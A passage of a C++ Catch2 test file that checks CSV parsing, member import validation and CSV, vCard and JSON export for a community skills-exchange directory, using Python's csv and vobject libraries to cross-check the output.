// SPDX-License-Identifier: GPL-3.0-or-later
// CSV reading and writing, member import (all rows or none) and export
// (CSV, vCard, JSON), checked against Debian's python3 csv and vobject.
#include "core/common/csvreader.h"
#include "core/common/csvwriter.h"
#include "core/members/listingservice.h"
#include "core/members/memberexporter.h"
#include "core/members/memberimporter.h"
#include "core/members/memberservice.h"
#include "core/members/skillservice.h"
#include "tests/support/catchqt.h"
#include "tests/support/temphub.h"

#include <QBuffer>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>

using namespace hub;
using hub::test::TempHub;

namespace {

QByteArray utf8(const char8_t *text)
{
    return QByteArray(reinterpret_cast<const char *>(text));
}

QString str(const char8_t *text)
{
    return QString::fromUtf8(utf8(text));
}

CsvTable readOk(const QByteArray &bytes)
{
    auto table = CsvReader::read(bytes);
    if (!table)
        FAIL(table.error().text().toStdString());
    return *table;
}

// Runs Debian's python3 with `script`, feeding `input` on stdin; returns stdout.
QByteArray python(const QString &script, const QByteArray &input, int *exitCode = nullptr)
{
    QProcess p;
    p.start(QStringLiteral("/usr/bin/python3"), {QStringLiteral("-c"), script});
    REQUIRE(p.waitForStarted());
    p.write(input);
    p.closeWriteChannel();
    REQUIRE(p.waitForFinished(60000));
    if (exitCode)
        *exitCode = p.exitCode();
    else if (p.exitCode() != 0)
        FAIL(p.readAllStandardError().toStdString());
    return p.readAllStandardOutput();
}

} // namespace

TEST_CASE("csv: quoted fields keep commas and doubled quotes")
{
    const CsvTable t = readOk("name,notes\r\n\"Jones, Mair\",\"She said \"\"hi\"\"\"\r\nBob,plain\r\n");
    CHECK(t.separator == u',');
    CHECK(t.headers == QStringList{QStringLiteral("name"), QStringLiteral("notes")});
    REQUIRE(t.records.size() == 2);
    CHECK(t.records[0].fields == QStringList{QStringLiteral("Jones, Mair"), QStringLiteral("She said \"hi\"")});
    CHECK(t.records[0].row == 2);
    CHECK(t.records[1].row == 3);
    CHECK(t.records[1].field(5).isEmpty());
}

TEST_CASE("csv: embedded newlines stay in the field and rows and lines are counted")
{
    const CsvTable t = readOk("name,address\r\nAnn,\"1 High St\r\nCardiff\"\r\nBob,\"a\nb\nc\"\nCat,x");
    REQUIRE(t.records.size() == 3);
    CHECK(t.records[0].field(1) == QStringLiteral("1 High St\nCardiff"));
    CHECK(t.records[0].row == 2);
    CHECK(t.records[0].line == 2);
    CHECK(t.records[1].field(1) == QStringLiteral("a\nb\nc"));
    CHECK(t.records[1].row == 3);
    CHECK(t.records[1].line == 4);
    CHECK(t.records[2].row == 4);
    CHECK(t.records[2].line == 7);
    CHECK(t.records[2].field(1) == QStringLiteral("x"));
}

TEST_CASE("csv: a byte-order mark is skipped and UTF-8 text survives")
{
    const CsvTable t = readOk(utf8(u8"\uFEFFname;email\nZoë Ó Briain;zoe@example.org\n"));
    CHECK(t.hadBom);
    CHECK(t.headers.first() == QStringLiteral("name"));
    CHECK(t.records.first().field(0) == str(u8"Zoë Ó Briain"));
}

TEST_CASE("csv: the semicolon separator is detected from the header outside quotes")
{
    const CsvTable t = readOk("\"name, full\";email;notes\n\"Łukasz, W\";l@example.org;\"a;b\"\n");
    CHECK(t.separator == u';');
    CHECK(t.headers == QStringList{QStringLiteral("name, full"), QStringLiteral("email"), QStringLiteral("notes")});
    CHECK(t.records.first().fields ==
          QStringList{str(u8"Łukasz, W"), QStringLiteral("l@example.org"), QStringLiteral("a;b")});
    CHECK(CsvReader::detectSeparator(u"\"a;b;c\",d") == u',');
}

TEST_CASE("csv: bad UTF-8 is refused naming its line")
{
    QByteArray bytes = "name,email\nAnn,ann@example.org\nBob \xC3\x28,bob@example.org\n";
    auto t = CsvReader::read(bytes);
    REQUIRE_FALSE(t.has_value());
    CHECK(t.error().kind == ErrorKind::Invalid);
    CHECK(t.error().where == QStringLiteral("line 3"));
    CHECK(t.error().message.contains(QStringLiteral("UTF-8")));
    // Latin-1 from an old spreadsheet, an overlong form and a lone surrogate are all caught.
    CHECK(CsvReader::firstBadUtf8Line("name\nJos\xE9\n") == 2);
    CHECK(CsvReader::firstBadUtf8Line("\xC0\xAF") == 1);
    CHECK(CsvReader::firstBadUtf8Line("\xED\xA0\x80") == 1);
    CHECK(CsvReader::firstBadUtf8Line(utf8(u8"ok 🎉\nok")) == 0);
}

TEST_CASE("csv: an empty file or one without a header row is refused")
{
    for (const QByteArray &bytes :
         {QByteArray(), QByteArray("\xEF\xBB\xBF"), QByteArray("\r\n\r\n"), QByteArray("   \n")}) {
        auto t = CsvReader::read(bytes);
        REQUIRE_FALSE(t.has_value());
        CHECK(t.error().kind == ErrorKind::Invalid);
        CHECK(t.error().message.contains(QStringLiteral("empty")));
    }
    auto blankFirst = CsvReader::read("\nname,email\nAnn,a@example.org\n");
    REQUIRE_FALSE(blankFirst.has_value());
    CHECK(blankFirst.error().message.contains(QStringLiteral("header")));
    CHECK(blankFirst.error().where == QStringLiteral("line 1"));
}

TEST_CASE("csv: an unterminated quote is refused naming the line it opened on")
{
    auto t = CsvReader::read("name,notes\nAnn,ok\nBob,\"never closed\nCat,x\n");
    REQUIRE_FALSE(t.has_value());
    CHECK(t.error().where == QStringLiteral("line 3"));
    auto stray = CsvReader::read("name,notes\nAnn,\"quoted\"tail\n");
    REQUIRE_FALSE(stray.has_value());
    CHECK(stray.error().where == QStringLiteral("line 2"));
}

TEST_CASE("csv: blank lines are skipped but counted as rows")
{
    const CsvTable t = readOk("name\r\nAnn\r\n\r\n,\r\nBob\r\n\r\n");
    REQUIRE(t.records.size() == 2);
    CHECK(t.records[1].field(0) == QStringLiteral("Bob"));
    CHECK(t.records[1].row == 5);
}

TEST_CASE("csv: the writer quotes only what needs it and the reader and python read it back")
{
    CHECK(CsvWriter::formatRow({QStringLiteral("a"), QStringLiteral("b,c"), QStringLiteral("say \"x\""),
                                QStringLiteral("two\nlines"), QStringLiteral(" pad"), QString()}) ==
          QStringLiteral("a,\"b,c\",\"say \"\"x\"\"\",\"two\nlines\",\" pad\",\r\n"));
    CHECK(CsvWriter::quoted(QStringLiteral("a;b"), u';') == QStringLiteral("\"a;b\""));
    CHECK(CsvWriter::quoted(QStringLiteral("a;b"), u',') == QStringLiteral("a;b"));

    const QList<QStringList> rows = {
        {QStringLiteral("name"), QStringLiteral("notes")},
        {str(u8"Siân Llŷr"), QStringLiteral("one, two\n\"three\"")},
        {str(u8"محمد 🎉"), QStringLiteral(" spaced ")},
    };
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvWriter writer(buffer, {u',', true});
    for (const QStringList &r : rows)
        REQUIRE(writer.writeRow(r));
    CHECK(writer.rowsWritten() == 3);
    CHECK(buffer.data().startsWith("\xEF\xBB\xBF"));
    CHECK(buffer.data().endsWith("\r\n"));

    const CsvTable t = readOk(buffer.data());
    CHECK(t.headers == rows[0]);
    REQUIRE(t.records.size() == 2);
    CHECK(t.records[0].fields == rows[1]);
    CHECK(t.records[1].fields == rows[2]);

    // Python's csv module reads the same fields.
    const QByteArray json =
        python(QStringLiteral("import csv, io, json, sys\n"
                              "data = sys.stdin.buffer.read().decode('utf-8-sig')\n"
                              "print(json.dumps(list(csv.reader(io.StringIO(data, newline='')))))\n"),
               buffer.data());
    const QJsonArray parsed = QJsonDocument::fromJson(json).array();
    REQUIRE(parsed.size() == 3);
    for (int r = 0; r < 3; ++r)
        for (int c = 0; c < 2; ++c)
            CHECK(parsed[r].toArray()[c].toString() == rows[r][c]);
}

// ---------------------------------------------------------------- import

namespace {

ImportReport importOk(TempHub &t, const QByteArray &bytes, bool dryRun = false)
{
    auto r = MemberImporter(t.hub()).run(bytes, dryRun);
    if (!r)
        FAIL(r.error().text().toStdString());
    return *r;
}

int memberCountInMemberExchange(TempHub &t)
{
    auto n = t->members().count({});
    REQUIRE(n);
    return *n;
}

QString problemsText(const ImportReport &r)
{
    QString text;
    for (const ImportProblem &p : r.problems)
        text += QStringLiteral("row %1, %2: %3\n").arg(p.row).arg(p.column, p.message);
    return text;
}

Member memberByEmail(TempHub &t, const QString &email)
{
    auto m = t->members().findByEmail(email);
    REQUIRE(m);
    REQUIRE(m->has_value());
    return **m;
}

} // namespace

TEST_CASE("import: header names and aliases are matched ignoring case and punctuation")
{
    const QStringList headers = {QStringLiteral("Name"),       QStringLiteral("E-mail"),
                                 QStringLiteral("First Name"), QStringLiteral("SURNAME"),
                                 QStringLiteral("Mobile"),     QStringLiteral("Zip"),
                                 QStringLiteral("Joined"),     QStringLiteral("Favourite colour"),
                                 QStringLiteral("email"),      QStringLiteral("show_email"),
                                 QStringLiteral("Type")};
    const ColumnMapping m = MemberImporter::guessMapping(headers);
    CHECK(m == ColumnMapping{MemberField::DisplayName, MemberField::Email, MemberField::GivenName,
                             MemberField::FamilyName, MemberField::Phone, MemberField::Postcode, MemberField::JoinedOn,
                             MemberField::Ignore, MemberField::Ignore, MemberField::ShowEmail, MemberField::Kind});
    for (const QString &name : MemberImporter::fieldNames())
        CHECK(MemberImporter::fieldForHeader(name).has_value());
}

TEST_CASE("import: a good file creates every member with skills offers and needs")
{
    TempHub t;
    const QByteArray csv = utf8(u8"\uFEFFName;E-mail;Kind;Skills;Offers;Needs;Postcode;Directory;Show "
                                u8"email;Joined;Interests\r\n"
                                u8"Siân Llŷr;sian@example.org;person;\"Guitar:expert; Cooking\";\"[Guitar] can teach "
                                u8"guitar\nwalks dogs\";"
                                u8"\"[Bookkeeping] help with accounts\nGardening: a hand with the allotment\";cf10 "
                                u8"1aa;yes;no;2024-02-29;"
                                u8"volunteer, facilitator\r\n"
                                u8"Caffi Cymunedol;caffi@example.org;organisation;;;;;y;y;;\r\n");
    const ImportReport r = importOk(t, csv);
    INFO(problemsText(r).toStdString());
    REQUIRE(r.ok());
    CHECK(r.rows == 2);
    REQUIRE(r.created.size() == 2);
    CHECK(memberCountInMemberExchange(t) == 2);

    const Member sian = memberByEmail(t, QStringLiteral("SIAN@example.org"));
    CHECK(sian.displayName == str(u8"Siân Llŷr"));
    CHECK(sian.postcode == QStringLiteral("CF10 1AA"));
    CHECK(sian.joinedOn == QDate(2024, 2, 29));
    CHECK(sian.consent.directoryVisible);
    CHECK_FALSE(sian.consent.showEmail);
    CHECK(sian.interests == QStringList{QStringLiteral("volunteer"), QStringLiteral("facilitator")});
    auto skills = t->skills().memberSkills(sian.id);
    REQUIRE(skills);
    REQUIRE(skills->size() == 2);
    QStringList skillText;
    for (const MemberSkill &s : *skills)
        skillText << s.name + u'/' + toString(s.level);
    skillText.sort();
    CHECK(skillText == QStringList{QStringLiteral("Cooking/"), QStringLiteral("Guitar/expert")});
    auto offers = t->listings().offers(sian.id);
    REQUIRE(offers);
    REQUIRE(offers->size() == 2);
    QStringList offerText;
    for (const Offer &o : *offers)
        offerText << MemberImporter::formatListing(o.skillName, o.description);
    offerText.sort();
    CHECK(offerText == QStringList{QStringLiteral("[Guitar] can teach guitar"), QStringLiteral("walks dogs")});
    auto needs = t->listings().needs(sian.id);
    REQUIRE(needs);
    REQUIRE(needs->size() == 2);
    QStringList needText;
    for (const Need &n : *needs)
        needText << n.skillName + u'|' + n.description;
    needText.sort();
    CHECK(needText == QStringList{QStringLiteral("Bookkeeping|help with accounts"),
                                  QStringLiteral("Gardening|a hand with the allotment")});

    const Member caffi = memberByEmail(t, QStringLiteral("caffi@example.org"));
    CHECK(caffi.kind == MemberKind::Organisation);
    CHECK(caffi.consent.showEmail);
}

TEST_CASE("import: 10k rows with one bad row write nothing and name its row and column", "[bulk]")
{
    TempHub t;
    constexpr int Rows = 10000;
    constexpr int BadIndex = 7000; // row 7002: the header is row 1
    auto makeFile = [](bool withBadRow) {
        QByteArray csv = "display_name,email,postcode,skills,status\r\n";
        for (int i = 0; i < Rows; ++i) {
            const QByteArray n = QByteArray::number(i);
            const QByteArray email = (withBadRow && i == BadIndex) ? "not-an-email" : "m" + n + "@example.org";
            csv += "\"Member " + n + ", Test\"," + email + ",CF" + QByteArray::number(10 + i % 30) + " 1AA,Skill " +
                   QByteArray::number(i % 50) + ":beginner,active\r\n";
        }
        return csv;
    };

    QElapsedTimer timer;
    timer.start();
    const ImportReport bad = importOk(t, makeFile(true));
    const qint64 checkMs = timer.elapsed();
    CHECK(bad.rows == Rows);
    REQUIRE(bad.problems.size() == 1);
    CHECK(bad.problems.first().row == BadIndex + 2);
    CHECK(bad.problems.first().column == QStringLiteral("email"));
    CHECK(bad.problems.first().message.contains(QStringLiteral("not-an-email")));
    CHECK(bad.created.isEmpty());
    CHECK(memberCountInMemberExchange(t) == 0);

    timer.restart();
    int calls = 0;
    int lastDone = 0;
    auto good = MemberImporter(t.hub()).run(makeFile(false), false, [&](int done, int total) {
        ++calls;
        CHECK(done > lastDone);
        CHECK(total == 2 * Rows);
        lastDone = done;
        return true;
    });
    const qint64 importMs = timer.elapsed();
    REQUIRE(good);
    INFO(problemsText(*good).toStdString());
    CHECK(good->ok());
    CHECK(good->created.size() == Rows);
    CHECK(memberCountInMemberExchange(t) == Rows);
    CHECK(lastDone == 2 * Rows);
    CHECK(calls >= 100);
    CHECK(calls <= 250);
    WARN("10k rows: checked with one bad row in " << checkMs << " ms; imported in " << importMs << " ms");
}

TEST_CASE("import: duplicate e-mails in the file and of existing members are reported")
{
    TempHub t;
    MemberDraft existing;
    existing.displayName = QStringLiteral("Zoë Existing");
    existing.email = QStringLiteral("zoe@example.org");
    auto added = t->members().add(existing);
    REQUIRE(added);

    const QByteArray csv = "name,email\n"
                           "Ann,ann@example.org\n"
                           "Bob,bob@example.org\n"
                           "Ann Again,ANN@Example.org\n"
                           "Zoe,Zoe@Example.ORG\n";
    const ImportReport r = importOk(t, csv);
    INFO(problemsText(r).toStdString());
    REQUIRE(r.problems.size() == 2);
    CHECK(r.problems[0].row == 4);
    CHECK(r.problems[0].column == QStringLiteral("email"));
    CHECK(r.problems[0].message.contains(QStringLiteral("duplicate of row 2")));
    CHECK(r.problems[1].row == 5);
    CHECK(r.problems[1].message.contains(QStringLiteral("duplicate of existing member #%1").arg(added->id.value())));
    CHECK(memberCountInMemberExchange(t) == 1);
}

TEST_CASE("import: every bad value is reported with its row and column and nothing is written")
{
    TempHub t;
    const QByteArray csv = "Display Name,E-mail,Status,Kind,Joined,Skills,Directory,Phone\n"
                           "Good One,good@example.org,active,person,2020-01-01,Cooking,yes,\n"
                           ",nobody@example.org,active,person,,,,\n"
                           "Bad Mail,bad@@example,active,person,,,,\n"
                           "Bad Status,s@example.org,sleeping,person,,,,\n"
                           "Bad Kind,k@example.org,active,robot,,,,\n"
                           "Bad Date,d@example.org,active,person,31/12/2020,,,\n"
                           "Bad Level,l@example.org,active,person,,Guitar:wizard,,\n"
                           "Bad Consent,c@example.org,active,person,,,maybe,\n"
                           "Bad Phone,p@example.org,active,person,,,,call me\n";
    const ImportReport r = importOk(t, csv);
    INFO(problemsText(r).toStdString());
    CHECK_FALSE(r.ok());
    CHECK(r.created.isEmpty());
    CHECK(memberCountInMemberExchange(t) == 0);
    const QList<std::pair<int, QString>> expected = {
        {3, QStringLiteral("Display Name")}, {4, QStringLiteral("E-mail")}, {5, QStringLiteral("Status")},
        {6, QStringLiteral("Kind")},         {7, QStringLiteral("Joined")}, {8, QStringLiteral("Skills")},
        {9, QStringLiteral("Directory")},    {10, QStringLiteral("Phone")},
    };
    REQUIRE(r.problems.size() == expected.size());
    for (qsizetype i = 0; i < expected.size(); ++i) {
        CHECK(r.problems[i].row == expected[i].first);
        CHECK(r.problems[i].column == expected[i].second);
        CHECK_FALSE(r.problems[i].message.isEmpty());
    }
    CHECK(r.problems[2].message.contains(QStringLiteral("sleeping")));
}

TEST_CASE("import: unknown columns are ignored and listed and a file without a name column is refused")
{
    TempHub t;
    const ImportReport r = importOk(t, "name,email,shoe size\nAnn,ann@example.org,5\n");
    CHECK(r.ok());
    CHECK(r.ignoredColumns == QStringList{QStringLiteral("shoe size")});
    CHECK(memberCountInMemberExchange(t) == 1);

    // A file that starts straight with data has no header row.
    auto headless = MemberImporter(t.hub()).run("Bob,bob@example.org\nCat,cat@example.org\n", false);
    REQUIRE_FALSE(headless.has_value());
    CHECK(headless.error().kind == ErrorKind::Invalid);
    CHECK(headless.error().message.contains(QStringLiteral("header")));
    CHECK(headless.error().where == QStringLiteral("row 1"));
    // File-level errors from the reader come through unchanged.
    auto empty = MemberImporter(t.hub()).run(QByteArray(), false);
    REQUIRE_FALSE(empty.has_value());
    CHECK(empty.error().kind == ErrorKind::Invalid);
    CHECK(memberCountInMemberExchange(t) == 1);
}

TEST_CASE("import: a dry run gives the same report and writes nothing")
{
    TempHub t;
    const QByteArray good = "name,email\nAnn,ann@example.org\nBob,bob@example.org\n";
    // Readers touch the -shm index, so compare the database and its WAL only.
    const auto bytes = [&] {
        return hub::test::readBytes(t.path()) + hub::test::readBytes(t.path() + QStringLiteral("-wal"));
    };
    const QByteArray before = bytes();
    const ImportReport dry = importOk(t, good, true);
    CHECK(dry.dryRun);
    CHECK(dry.ok());
    CHECK(dry.rows == 2);
    CHECK(dry.created.isEmpty());
    CHECK(memberCountInMemberExchange(t) == 0);
    CHECK(bytes() == before);

    const QByteArray bad = "name,email\nAnn,ann@example.org\nAnn,ann@example.org\n";
    const ImportReport dryBad = importOk(t, bad, true);
    const ImportReport realBad = importOk(t, bad, false);
    REQUIRE(dryBad.problems.size() == 1);
    REQUIRE(realBad.problems.size() == 1);
    CHECK(dryBad.problems[0].row == realBad.problems[0].row);
    CHECK(dryBad.problems[0].message == realBad.problems[0].message);
    CHECK(memberCountInMemberExchange(t) == 0);
}

TEST_CASE("import: cancelling from the progress callback writes nothing")
{
    TempHub t;
    QByteArray csv = "name,email\n";
    for (int i = 0; i < 500; ++i)
        csv += "Member " + QByteArray::number(i) + ",m" + QByteArray::number(i) + "@example.org\n";
    // Cancel during the writing half, after some members were added.
    auto r = MemberImporter(t.hub()).run(csv, false, [](int done, int total) { return done < total * 3 / 4; });
    REQUIRE(r);
    CHECK(r->cancelled);
    CHECK_FALSE(r->ok());
    CHECK(r->created.isEmpty());
    CHECK(memberCountInMemberExchange(t) == 0);
}

TEST_CASE("import: an explicit mapping overrides the guess")
{
    TempHub t;
    const QByteArray csv = "who,contact,junk\nAnn,ann@example.org,x\n";
    auto preview = MemberImporter(t.hub()).preview(csv);
    REQUIRE(preview);
    CHECK(preview->headers.size() == 3);
    CHECK(preview->rowCount == 1);
    CHECK(preview->mapping == ColumnMapping{MemberField::Ignore, MemberField::Ignore, MemberField::Ignore});
    auto r =
        MemberImporter(t.hub()).run(csv, {MemberField::DisplayName, MemberField::Email, MemberField::Ignore}, false);
    REQUIRE(r);
    CHECK(r->ok());
    CHECK(memberByEmail(t, QStringLiteral("ann@example.org")).displayName == QStringLiteral("Ann"));
    auto wrongSize = MemberImporter(t.hub()).run(csv, {MemberField::DisplayName}, false);
    REQUIRE_FALSE(wrongSize.has_value());
    CHECK(wrongSize.error().kind == ErrorKind::Usage);
}

// ---------------------------------------------------------------- export

namespace {

MemberDraft draft(const QString &name, const QString &email, bool visible, bool showEmail = false,
                  bool showPhone = false)
{
    MemberDraft d;
    d.displayName = name;
    d.email = email;
    d.joinedOn = QDate(2023, 5, 1);
    d.consent = {visible, showEmail, showPhone};
    return d;
}

Member addMember(TempHub &t, const MemberDraft &d, const QList<MemberSkill> &skills = {},
                 const QStringList &offers = {}, const QStringList &needs = {})
{
    auto m = t->members().add(d);
    if (!m)
        FAIL(m.error().text().toStdString());
    if (!skills.isEmpty())
        REQUIRE(t->skills().setMemberSkills(m->id, skills));
    for (const QString &o : offers) {
        const auto l = MemberImporter::parseListings(o).first();
        REQUIRE(t->listings().addOffer(m->id, l.skill, l.description));
    }
    for (const QString &n : needs) {
        const auto l = MemberImporter::parseListings(n).first();
        REQUIRE(t->listings().addNeed(m->id, l.skill, l.description));
    }
    return *m;
}

MemberSkill skill(const QString &name, SkillLevel level = SkillLevel::Unspecified)
{
    MemberSkill s;
    s.name = name;
    s.level = level;
    return s;
}

QByteArray exportBytes(TempHub &t, ExportFormat format, bool all, int *count = nullptr)
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    ExportOptions options;
    options.format = format;
    options.all = all;
    auto n = MemberExporter(t.hub()).write(buffer, options);
    if (!n)
        FAIL(n.error().text().toStdString());
    if (count)
        *count = *n;
    return buffer.data();
}

// Everything an export carries about a member, in one comparable text.
QString describe(TempHub &t, const Member &m)
{
    QStringList parts = {toString(m.kind),
                         m.displayName,
                         m.givenName,
                         m.familyName,
                         m.email,
                         m.phone,
                         m.postcode,
                         m.address,
                         m.website,
                         m.notes,
                         toString(m.status),
                         m.joinedOn.toString(Qt::ISODate),
                         m.lapsedOn.toString(Qt::ISODate),
                         m.leftOn.toString(Qt::ISODate),
                         m.interests.join(u'|'),
                         QString::number(m.consent.directoryVisible),
                         QString::number(m.consent.showEmail),
                         QString::number(m.consent.showPhone)};
    // Results kept in locals: a range-for over *temporary would dangle.
    const auto memberSkills = t->skills().memberSkills(m.id);
    REQUIRE(memberSkills);
    const auto memberOffers = t->listings().offers(m.id);
    REQUIRE(memberOffers);
    const auto memberNeeds = t->listings().needs(m.id);
    REQUIRE(memberNeeds);
    QStringList skills;
    for (const MemberSkill &s : *memberSkills)
        skills << s.name + u':' + toString(s.level);
    skills.sort();
    QStringList offers;
    for (const Offer &o : *memberOffers)
        offers << MemberImporter::formatListing(o.skillName, o.description);
    offers.sort();
    QStringList needs;
    for (const Need &n : *memberNeeds)
        needs << MemberImporter::formatListing(n.skillName, n.description);
    needs.sort();
    return parts.join(QStringLiteral(" / ")) + QStringLiteral(" skills=") + skills.join(u',') +
           QStringLiteral(" offers=") + offers.join(u',') + QStringLiteral(" needs=") + needs.join(u',');
}

QStringList describeAll(TempHub &t)
{
    QStringList all;
    auto list = t->members().list({});
    REQUIRE(list);
    for (const Member &m : *list)
        all << describe(t, m);
    all.sort();
    return all;
}

// A small directory whose names come from many languages.
void addDirectory(TempHub &t)
{
    MemberDraft sian = draft(str(u8"Siân Llŷr-Ŵatkins"), QStringLiteral("sian@example.org"), true, true, false);
    sian.givenName = str(u8"Siân");
    sian.familyName = str(u8"Llŷr-Ŵatkins");
    sian.phone = QStringLiteral("+44 29 2000 0000");
    sian.postcode = QStringLiteral("CF10 1AA");
    sian.address = QStringLiteral("1 Heol y Frenhines,\nCaerdydd; Cymru \\ UK");
    sian.notes = QStringLiteral("Prefers \"Welsh\" first, then English");
    sian.interests = {QStringLiteral("volunteer"), QStringLiteral("facilitator")};
    addMember(t, sian, {skill(QStringLiteral("Guitar"), SkillLevel::Expert), skill(QStringLiteral("Welsh, spoken"))},
              {QStringLiteral("[Guitar] can teach guitar, on Saturdays"), QStringLiteral("lifts to the market")},
              {QStringLiteral("[Bookkeeping] help with accounts")});

    MemberDraft lukasz = draft(str(u8"Łukasz Żółć"), QStringLiteral("lukasz@example.org"), true, false, true);
    lukasz.phone = QStringLiteral("07700 900123");
    lukasz.status = MemberStatus::Lapsed;
    lukasz.lapsedOn = QDate(2024, 1, 31);
    addMember(t, lukasz, {skill(QStringLiteral("Carpentry"), SkillLevel::Intermediate)});

    MemberDraft arabic = draft(str(u8"محمد عبد الله"), QStringLiteral("m.abdullah@example.org"), true, true, true);
    addMember(t, arabic, {skill(str(u8"Cooking 🍲"))}, {}, {QStringLiteral("a bike 🚲 for work")});

    MemberDraft emoji = draft(str(u8"Zoë 🌻 O'Brien"), QString(), false);
    emoji.website = QStringLiteral("https://zoe.example.org/garden?a=1");
    addMember(t, emoji);

    MemberDraft cafe = draft(str(u8"Caffi’r Gymuned — Café"), QStringLiteral("caffi@example.org"), true, true);
    cafe.kind = MemberKind::Organisation;
    cafe.postcode = QStringLiteral("SA1 1AA");
    addMember(t, cafe, {skill(QStringLiteral("Catering"))}, {QStringLiteral("[Catering] room and tea for meetings")});

    MemberDraft left = draft(QStringLiteral("Ngozi Okafor"), QStringLiteral("ngozi@example.org"), false);
    left.status = MemberStatus::Left;
    left.leftOn = QDate(2024, 6, 30);
    addMember(t, left);
}

} // namespace

TEST_CASE("export: a full CSV export imports into a new hub as equal members")
{
    TempHub source;
    addDirectory(source);
    int count = 0;
    const QByteArray csv = exportBytes(source, ExportFormat::Csv, true, &count);
    CHECK(count == 6);

    TempHub target;
    const ImportReport r = importOk(target, csv);
    INFO(problemsText(r).toStdString());
    REQUIRE(r.ok());
    CHECK(r.created.size() == 6);
    CHECK(r.ignoredColumns.isEmpty());
    const QStringList before = describeAll(source);
    const QStringList after = describeAll(target);
    REQUIRE(after.size() == before.size());
    for (qsizetype i = 0; i < before.size(); ++i)
        CHECK(after[i] == before[i]);
}

TEST_CASE("export: without all only directory members and the contact fields they allow are exported")
{
    TempHub t;
    addDirectory(t);
    int count = 0;
    const QByteArray csv = exportBytes(t, ExportFormat::Csv, false, &count);
    CHECK(count == 4); // Zoë and Ngozi are not in the directory
    const CsvTable table = readOk(csv);
    REQUIRE(table.records.size() == 4);
    const qsizetype name = table.headers.indexOf(QStringLiteral("display_name"));
    const qsizetype email = table.headers.indexOf(QStringLiteral("email"));
    const qsizetype phone = table.headers.indexOf(QStringLiteral("phone"));
    const qsizetype address = table.headers.indexOf(QStringLiteral("address"));
    const qsizetype notes = table.headers.indexOf(QStringLiteral("notes"));
    QHash<QString, CsvRecord> byName;
    for (const CsvRecord &r : table.records)
        byName.insert(r.field(name), r);
    CHECK_FALSE(byName.contains(str(u8"Zoë 🌻 O'Brien")));
    CHECK_FALSE(byName.contains(QStringLiteral("Ngozi Okafor")));
    const CsvRecord sian = byName.value(str(u8"Siân Llŷr-Ŵatkins"));
    CHECK(sian.field(email) == QStringLiteral("sian@example.org"));
    CHECK(sian.field(phone).isEmpty());
    CHECK(sian.field(address).isEmpty());
    CHECK(sian.field(notes).isEmpty());
    const CsvRecord lukasz = byName.value(str(u8"Łukasz Żółć"));
    CHECK(lukasz.field(email).isEmpty());
    CHECK(lukasz.field(phone) == QStringLiteral("07700 900123"));
    const CsvRecord arabic = byName.value(str(u8"محمد عبد الله"));
    CHECK(arabic.field(email) == QStringLiteral("m.abdullah@example.org"));
    CHECK(!csv.contains("Heol y Frenhines"));
    CHECK(!csv.contains("Prefers"));

    const QByteArray vcf = exportBytes(t, ExportFormat::VCard, false);
    CHECK_FALSE(vcf.contains("lukasz@example.org"));
    CHECK_FALSE(vcf.contains("Ngozi"));
    const QByteArray json = exportBytes(t, ExportFormat::Json, false);
    CHECK_FALSE(json.contains("lukasz@example.org"));
    CHECK_FALSE(json.contains("ngozi@example.org"));

    const QByteArray everything = exportBytes(t, ExportFormat::Json, true);
    CHECK(everything.contains("lukasz@example.org"));
    CHECK(everything.contains("ngozi@example.org"));
}

TEST_CASE("export: vCard lines are escaped and folded at 75 octets without splitting UTF-8")
{
    CHECK(MemberExporter::vcardEscape(QStringLiteral("a,b;c\\d\ne\r\nf")) == QStringLiteral("a\\,b\\;c\\\\d\\ne\\nf"));
    const QString longLine = QStringLiteral("NOTE:") + str(u8"Zoë 🌻 Łódź ").repeated(20);
    const QByteArray folded = MemberExporter::vcardLine(longLine);
    CHECK(folded.endsWith("\r\n"));
    QByteArray unfolded;
    const QList<QByteArray> lines = folded.chopped(2).split('\n');
    for (qsizetype i = 0; i < lines.size(); ++i) {
        QByteArray l = lines[i];
        if (l.endsWith('\r'))
            l.chop(1);
        CHECK(l.size() <= 75);
        CHECK(QString::fromUtf8(l).toUtf8() == l); // each physical line is whole UTF-8
        if (i > 0) {
            REQUIRE(l.startsWith(' '));
            l.remove(0, 1);
        }
        unfolded += l;
    }
    CHECK(lines.size() > 3);
    CHECK(QString::fromUtf8(unfolded) == longLine);
    CHECK(MemberExporter::vcardLine(QStringLiteral("FN:Ann")) == QByteArray("FN:Ann\r\n"));
}

TEST_CASE("export: vCard 4.0 is read by python vobject with names e-mails and kinds")
{
    TempHub t;
    addDirectory(t);
    const QByteArray vcf = exportBytes(t, ExportFormat::VCard, true);
    CHECK(vcf.startsWith("BEGIN:VCARD\r\nVERSION:4.0\r\n"));
    for (const QByteArray &line : vcf.split('\n'))
        CHECK(line.size() <= 76); // 75 octets and the CR

    const QByteArray out =
        python(QStringLiteral("import json, sys, vobject\n"
                              "cards = []\n"
                              "for c in vobject.readComponents(sys.stdin.buffer.read().decode('utf-8')):\n"
                              "    d = {'fn': c.fn.value, 'kind': c.kind.value if hasattr(c, 'kind') else None,\n"
                              "         'email': c.email.value if hasattr(c, 'email') else None,\n"
                              "         'tel': c.tel.value if hasattr(c, 'tel') else None,\n"
                              "         'note': c.note.value if hasattr(c, 'note') else None,\n"
                              "         'categories': c.categories.value if hasattr(c, 'categories') else [],\n"
                              "         'adr': [c.adr.value.street, c.adr.value.code] if hasattr(c, 'adr') else "
                              "None,\n"
                              "         'n': [c.n.value.family, c.n.value.given] if hasattr(c, 'n') else None}\n"
                              "    cards.append(d)\n"
                              "print(json.dumps(cards))\n"),
               vcf);
    const QJsonArray cards = QJsonDocument::fromJson(out).array();
    REQUIRE(cards.size() == 6);
    QHash<QString, QJsonObject> byName;
    for (const QJsonValue &c : cards)
        byName.insert(c[QStringLiteral("fn")].toString(), c.toObject());
    for (const char8_t *name : {u8"Siân Llŷr-Ŵatkins", u8"Łukasz Żółć", u8"محمد عبد الله", u8"Zoë 🌻 O'Brien",
                                u8"Caffi’r Gymuned — Café", u8"Ngozi Okafor"})
        CHECK(byName.contains(str(name)));
    const QJsonObject sian = byName.value(str(u8"Siân Llŷr-Ŵatkins"));
    CHECK(sian[QStringLiteral("kind")].toString() == QStringLiteral("individual"));
    CHECK(sian[QStringLiteral("email")].toString() == QStringLiteral("sian@example.org"));
    CHECK(sian[QStringLiteral("tel")].toString() == QStringLiteral("+44 29 2000 0000"));
